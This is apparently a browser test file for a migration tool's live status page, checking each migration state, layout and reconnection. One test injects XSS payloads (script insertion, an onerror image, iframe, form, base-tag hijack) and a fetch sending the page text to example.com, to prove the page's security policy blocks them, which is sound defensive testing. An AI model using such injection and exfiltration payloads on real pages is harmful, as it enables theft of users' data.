/** The live page in a real browser, from before the migration to after its cutover. */
// A second argument names the state in which the page was hard to read.
// oxlint-disable vitest/valid-expect
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { systemClock } from '../../../src/lib/clock.ts';
import { readFacts } from '../../../src/report/watch/facts.ts';
import { LivePage } from '../../../src/report/watch/live.ts';
import { LIVE_POLICY, partsOf, watchPage } from '../../../src/report/watch/page.ts';
import { startWatch, type RunningWatch } from '../../../src/watch/server.ts';
import { Browser, CHROMIUM, type Page } from '../../helpers/browser/browser.ts';
import { HARD_TO_READ, OVERLAPPING, seriousFaults } from '../../helpers/browser/readable.ts';
import { Move, type Order } from '../../helpers/migration/move.ts';
import { cosmig, start } from '../../helpers/migration/typed.ts';
import { putAll } from '../../helpers/migration/verify.ts';
import { until } from '../../helpers/wait.ts';

const orders: Order[] = Array.from({ length: 300 }, (_none, n) => ({
  id: `o${n}`,
  customerId: `c${n % 9}`,
  tenantId: `t${n % 40}`,
  n,
}));

const NO_RATES = { source: new Map<string, number>(), target: new Map<string, number>() };

const SHOWN = `document.getElementById('work').textContent + document.getElementById('link').textContent`;

const SCREENS = [
  { width: 390, height: 844 },
  { width: 1280, height: 800, dark: true },
  { width: 2560, height: 1440 },
];

describe.skipIf(CHROMIUM === undefined)('live page in a browser (skipped where Chromium is missing)', () => {
  let move: Move;
  let server: RunningWatch;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    move = await Move.open({ source: { throughput: 20_000 }, target: { throughput: 20_000 } });
    server = await startWatch({
      port: 0,
      token: 'secret',
      shown: new LivePage(move.ledgerPath, { clock: systemClock, version: '1.2.3' }),
      clock: systemClock,
      signal: new AbortController().signal,
    });
    browser = await Browser.open(CHROMIUM ?? '');
    page = await browser.page();
    await page.open(server.url);
  });

  afterAll(async () => {
    await browser[Symbol.asyncDispose]();
    await server.close();
    await move[Symbol.asyncDispose]();
  });

  const textOf = async (selector: string): Promise<string> =>
    page.evaluate(`[...document.querySelectorAll('${selector}')].map((one) => one.textContent).join(' | ')`);

  /** Where each part of the page begins on a screen of 1280 px: a run must not make them jump. */
  const tops = async (): Promise<Record<string, number>> => {
    await page.show({ width: 1280, height: 800 });
    return page.evaluate(`Object.fromEntries([...document.querySelectorAll('section:not(details *)')].filter((part) => part.checkVisibility())
      .map((part) => [part.id, part.getBoundingClientRect().top + scrollY]))`);
  };

  /** Waits until the page shows this by itself. */
  const sees = async (selector: string, wanted: string | RegExp): Promise<void> => {
    const what = `${selector} to show ${String(wanted)}`;
    await until(async () => (await textOf(selector)).search(wanted) >= 0, { what });
  };

  /** Waits for it, and looks at the whole page on every screen. */
  const shows = async (selector: string, wanted: string | RegExp): Promise<void> => {
    await sees(selector, wanted);
    const what = `${selector} with ${String(wanted)}`;
    for (const screen of SCREENS) {
      await page.show(screen);
      expect(await page.evaluate('document.documentElement.scrollWidth'), what).toBe(screen.width);
      expect(await page.evaluate<string[]>(HARD_TO_READ), what).toEqual([]);
      expect(await page.evaluate<string[]>(OVERLAPPING), what).toEqual([]);
    }
    expect(await seriousFaults(page), what).toEqual([]);
  };

  test('from before the migration to after the cutover -> each state is shown without a reload', async () => {
    await shows('h1', 'No migration has begun');
    await page.evaluate('window.wasLoaded = true');
    await putAll(move, orders);
    expect((await cosmig(move, 'copy')).code).toBe(0);
    await shows('h1', /^No run since \d\d:\d\d UTC$/);
    await sees('.stages .here', 'Tail');
    await sees('#work', /300/);
    await sees('#events', 'The copy is complete');

    const tail = start(move, 'tail');
    await shows('h1', 'Replicating changes');
    const before429 = await tops();
    const partitions = async (): Promise<number> =>
      page.evaluate(`document.querySelectorAll('#ranges .tile').length`);
    const before = await partitions();
    await move.admin.split('shop/orders');
    await until(async () => (await partitions()) > before, { what: 'the split to be shown' });
    // Opened with the keyboard, it stays open while its contents change.
    await page.evaluate(`document.querySelector('summary').focus()`);
    for (const type of ['keyDown', 'keyUp'])
      await page.send('Input.dispatchKeyEvent', {
        type,
        key: 'Enter',
        code: 'Enter',
        windowsVirtualKeyCode: 13,
        text: '\r',
      });
    await sees('details[open] li', 'new from a split or a merge');
    await page.evaluate(`document.querySelector('details').open = false`);
    await sees('#ranges .tile title', 'new from a split or a merge');

    await move.admin.faults([
      { match: { op: 'batch', coll: 'by-tenant' }, effect: { status: 429, retryAfterMs: 1000 } },
    ]);
    await putAll(move, orders.slice(0, 40));
    await shows('.headline.wait', /It waits: throttled by the target \(range \d+, \d+ s\)\./);
    await sees('.figure.caution', /Target, RU\/s.*throttled (once|[1-9]\d* times)/);
    await sees('#work', /[1-9]\d* waiting to be written, oldest \d/);
    await until(async () => page.evaluate(`document.querySelector('#ranges .rest') !== null`), {
      what: 'a partition that rests',
    });
    expect(await tops()).toEqual(before429);
    await move.admin.calm();
    await sees('.headline.good', 'cosmig tail is running.');
    await sees('#work', 'none waiting to be written');
    expect(await tops()).toEqual(before429);
    await sees('#moved', /Created300 .*Updated40 .*Moved0 .*Removed0 /);
    tail.kill('SIGKILL');
    await tail.ended;
    await shows('h1', 'cosmig tail was killed or crashed');
    expect((await cosmig(move, 'cutover', '--writers-stopped')).code).toBe(3);
    await shows('h1', /^cosmig cutover failed at /);
    await sees('.headline.alarm p', 'No clean verification on record.');

    expect((await cosmig(move, 'verify')).code).toBe(0);
    await sees('#proof', 'Both sides were equal');
    await shows('#ranges .tile text', /\d+ documents/);
    expect((await cosmig(move, 'cutover', '--on-fence', 'false')).code).toBe(3);
    await shows('h1', 'The cutover backed out');
    expect(
      (await cosmig(move, 'cutover', '--writers-stopped', '--quiet-for', '1s', '--watch-writes', '1s')).code,
    ).toBe(0);
    await shows('h1', 'The target is in use');
    await sees('#cutover', 'Committed; the writers were stopped for');
    await sees('.steps', /comparing/);
    await sees('#history', /Since the beginning/);

    expect(await page.evaluate('window.wasLoaded')).toBe(true);
    expect(await page.evaluate('document.title')).toBe(
      'The target is in use · shop/orders -> shop/by-tenant',
    );
    const own = `requested ${server.url}`;
    expect(page.complaints.filter((complaint) => !complaint.startsWith(own))).toEqual([]);
  });

  test('an attack inside the page -> its policy lets nothing run and nothing leave', async () => {
    const other = await browser.page();
    await other.open(server.url);
    const refused = await other.evaluate<string[]>(`new Promise((resolve) => {
      const refused = new Set();
      document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
      const script = document.createElement('script');
      script.textContent = 'window.hasRun = true';
      document.body.append(script);
      const part = document.getElementById('plan');
      part.innerHTML = '<img src="https://example.com/x.png" onerror="window.hasRun = true"><p style="color:red">x</p>'
        + '<iframe src="https://example.com/"></iframe><form action="https://example.com/"><button>x</button></form>';
      part.querySelector('button').click();
      fetch('https://example.com/', { method: 'POST', body: document.body.textContent }).catch(() => {});
      const base = document.createElement('base');
      base.href = 'https://example.com/';
      document.head.append(base);
      const endsAt = Date.now() + 30_000;
      const look = () => {
        // And a moment more, for what is not expected.
        if (refused.size >= 8 || Date.now() > endsAt) setTimeout(() => resolve([...refused].toSorted()), 300);
        else setTimeout(look, 20);
      };
      look();
    })`);
    expect(refused).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
    ]);
    expect(await other.evaluate('window.hasRun')).toBe(undefined);
    expect(LIVE_POLICY).not.toContain('unsafe');
  });

  test('the server ends -> the page says that it shows the last state', async () => {
    await server.close();
    await until(async () => (await textOf('#link')).includes('has ended'), { what: 'the end to be shown' });
    expect(await textOf('h1')).toBe('The target is in use');
  });

  test('the server refuses for a while, as after a restart -> the page says so, and continues with the next answer', async () => {
    let answers: 'events' | 'nothing' = 'events';
    let shown = 'first';
    const facts = readFacts(move.ledgerPath, systemClock.now());
    const html = watchPage(facts, partsOf(facts, NO_RATES), { live: true, version: '1' });
    const server = createServer((request, response) => {
      if (request.url === '/') return void response.end(html);
      if (answers === 'nothing') return void response.writeHead(404).end();
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const parts = JSON.stringify({ work: `<p>${shown}</p>`, name: shown });
      response.write(`retry: 50\n\nevent: parts\ndata: ${parts}\n\n`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const other = await browser.page();
    const has = async (text: string): Promise<void> =>
      until(async () => (await other.evaluate<string>(SHOWN)).includes(text), {
        what: text,
      }).then(() => undefined);
    try {
      await other.open(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
      await has('first');
      answers = 'nothing';
      server.closeAllConnections();
      await has('open the address that it has printed');
      [answers, shown] = ['events', 'second'];
      await has('second');
      expect(await other.evaluate(`document.body.className`)).toBe('');
      // A text that a person is about to copy stays.
      await other.evaluate(`getSelection().selectAllChildren(document.getElementById('work'))`);
      shown = 'third';
      server.closeAllConnections();
      await until(async () => (await other.evaluate<string>('document.title')).includes('third'), {
        what: 'the next state',
      });
      expect(await other.evaluate('getSelection().toString()')).toBe('second');
      await other.evaluate(`getSelection().removeAllRanges()`);
      server.closeAllConnections();
      await has('third');
    } finally {
      server.closeAllConnections();
      server.close();
    }
  });
});
